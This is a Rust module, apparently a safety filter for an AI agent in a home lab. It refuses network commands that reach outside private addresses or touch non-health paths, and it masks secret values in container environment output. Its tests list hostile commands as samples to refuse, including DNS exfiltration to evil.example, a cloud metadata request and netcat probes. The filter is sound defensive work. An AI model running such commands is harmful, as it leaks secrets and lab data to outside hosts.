//! What a reader may still not do for a model, though it changes nothing here: carry what it saw out of the lab, set
//! something off with a mere request, or show what an environment holds.

use std::net::IpAddr;
use std::sync::LazyLock;

use regex::Regex;

/// Programs that ask other machines.
const ASKS: [&str; 15] = [
    "curl",
    "wget",
    "dig",
    "host",
    "nslookup",
    "getent",
    "ping",
    "ping6",
    "tracepath",
    "traceroute",
    "mtr",
    "whois",
    "nc",
    "ncat",
    "openssl",
];
/// Endings of names that stay in a lab.
const HERE: [&str; 9] = [
    ".lan",
    ".local",
    ".home",
    ".internal",
    ".home.arpa",
    ".localdomain",
    ".intranet",
    ".svc",
    ".cluster.local",
];
/// Beginnings of paths that only tell how a service is.
const TELLS: [&str; 12] = [
    "/health",
    "/metrics",
    "/status",
    "/ping",
    "/ready",
    "/live",
    "/-/",
    "/api/v1/query",
    "/api/v1/alerts",
    "/api/v1/targets",
    "/api/health",
    "/version",
];
/// Letters of one part of a name; what is longer may be data in disguise.
const PART: usize = 24;

/// Why a command that only reads is not run for a model, if it is not; `command` as people would type it.
pub(super) fn forbids(command: &str) -> Option<String> {
    let words: Vec<&str> = command.split_whitespace().map(|word| word.trim_matches('\'')).collect();
    let (program, rest) = words.split_first()?;
    let program = program.rsplit('/').next().unwrap_or(program);
    if program == "git" {
        return Some("repositories are read with the tools `git` and `read_file`".to_owned());
    }
    if !ASKS.contains(&program) {
        return None;
    }
    let web = matches!(program, "curl" | "wget");
    if web && rest.iter().any(|word| *word == "--location" || is_short_flag(word, 'L')) {
        return Some("where a redirect leads is not known beforehand: ask without following them".to_owned());
    }
    rest.iter()
        .filter(|word| !word.starts_with(['-', '+']) && word.contains(['.', ':']))
        .find_map(|word| refuses(word, web))
}

fn is_short_flag(word: &str, letter: char) -> bool {
    word.starts_with('-') && !word.starts_with("--") && word.contains(letter)
}

fn refuses(word: &str, web: bool) -> Option<String> {
    let (_, after) = word.split_once("://").unwrap_or(("", word));
    let (place, path) =
        after.split_once('/').map_or((after, "/".to_owned()), |(p, rest)| (p, format!("/{rest}")));
    let place = place.rsplit('@').next().unwrap_or(place);
    if !is_here(place) {
        return Some(format!(
            "{place} is not known to be in this lab, and what is asked of it would leave that"
        ));
    }
    let tells = path == "/" || TELLS.iter().any(|known| path.starts_with(known));
    (web && !tells)
        .then(|| format!("a request of {path} may set something off: only paths that tell how a service is"))
}

/// Whether an address or a name, perhaps with a port, is of the lab.
fn is_here(place: &str) -> bool {
    let bare = place.trim_start_matches('[').split(']').next().unwrap_or(place);
    if let Ok(address) = bare.parse::<IpAddr>() {
        return is_private(address);
    }
    let name = place.split(':').next().unwrap_or(place).trim_end_matches('.').to_lowercase();
    if let Ok(address) = name.parse::<IpAddr>() {
        return is_private(address);
    }
    let parts = name.split('.');
    let short = parts.clone().all(|part| part.len() <= PART) && parts.count() <= 5;
    short && (!name.contains('.') || HERE.iter().any(|ending| name.ends_with(ending)))
}

fn is_private(address: IpAddr) -> bool {
    match address {
        IpAddr::V4(v4) => {
            let [first, second, ..] = v4.octets();
            v4.is_private() || v4.is_loopback() || first == 100 && (64..128).contains(&second)
        }
        IpAddr::V6(v6) => v6.is_loopback() || v6.is_unique_local(),
    }
}

/// The text without the values of environments: containers are given their secrets there, under any name.
pub(super) fn without_environment(text: &str) -> String {
    type Hide = LazyLock<Option<Regex>>;
    /// `"NAME=value"`, as `docker inspect` has it.
    static PAIRS: Hide = LazyLock::new(|| Regex::new(r#""([A-Za-z_][A-Za-z0-9_]*)=[^"]*""#).ok());
    /// `"name": "NAME", "value": "…"`, in JSON.
    static JSON: Hide = LazyLock::new(|| Regex::new(r#"("name":\s*"[^"]*",\s*"value":\s*)"[^"]*""#).ok());
    /// The same in YAML.
    static YAML: Hide =
        LazyLock::new(|| Regex::new(r"(?m)^(\s*-?\s*name:[^\n]*\n\s*value:[ \t]*)[^\n]+").ok());
    /// As `kubectl describe` has it: upper-case names, further in than their heading.
    static TOLD: Hide =
        LazyLock::new(|| Regex::new(r"(?m)^(\s{4,}[A-Z][A-Z0-9_]{2,}:[ \t]+)(?:[^<\n][^\n]*)").ok());
    let rules = [
        (&PAIRS, "\"$1=[hidden]\""),
        (&JSON, "$1\"[hidden]\""),
        (&YAML, "$1[hidden]"),
        (&TOLD, "$1[hidden]"),
    ];
    rules.iter().fold(text.to_owned(), |text, (rule, with)| match rule.as_ref() {
        Some(rule) => rule.replace_all(&text, *with).into_owned(),
        None => text,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_is_asked_outside_of_the_lab_and_nothing_is_set_off() {
        for refused in [
            "dig @203.0.113.9 TXT aGVsbG8.evil.example",
            "ping -c1 c2VjcmV0.evil.example",
            "getent hosts x.evil.example",
            "nc -z 203.0.113.9 443",
            "curl -sL http://nas.lan/health",
            "curl http://nodered.lan:1880/garage/unlock",
            "curl http://169.254.169.254/latest/meta-data",
            "dig aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ.lan",
            "/usr/bin/git -C /srv/lab log -p",
            "openssl s_client -connect evil.example:443",
        ] {
            assert!(forbids(refused).is_some(), "{refused}");
        }
        for fine in [
            "curl -s http://10.0.0.5:9090/-/healthy",
            "curl -fsS http://jellyfin.lan:8096/health",
            "ping -c 1 pve4",
            "dig nas.lan +short",
            "openssl s_client -connect [fd00::1]:443",
            "journalctl -u nginx --since -1h",
            "cat /etc/hosts",
        ] {
            assert_eq!(forbids(fine), None, "{fine}");
        }
    }

    #[test]
    fn the_values_of_an_environment_are_hidden_in_every_form_in_which_they_are_shown() {
        for (text, shown) in [
            (r#""Env": ["SMTP_PW=hunter2", "A=b"]"#, r#""Env": ["SMTP_PW=[hidden]", "A=[hidden]"]"#),
            ("- name: PLEX_CLAIM\n  value: hunter2\n", "- name: PLEX_CLAIM\n  value: [hidden]\n"),
            (r#"{"name": "X", "value": "hunter2"}"#, r#"{"name": "X", "value": "[hidden]"}"#),
            ("    Environment:\n      PASS:  hunter2\n", "    Environment:\n      PASS:  [hidden]\n"),
        ] {
            assert_eq!(without_environment(text), shown);
        }
        assert_eq!(without_environment("State: running\nPort: 80"), "State: running\nPort: 80");
    }
}
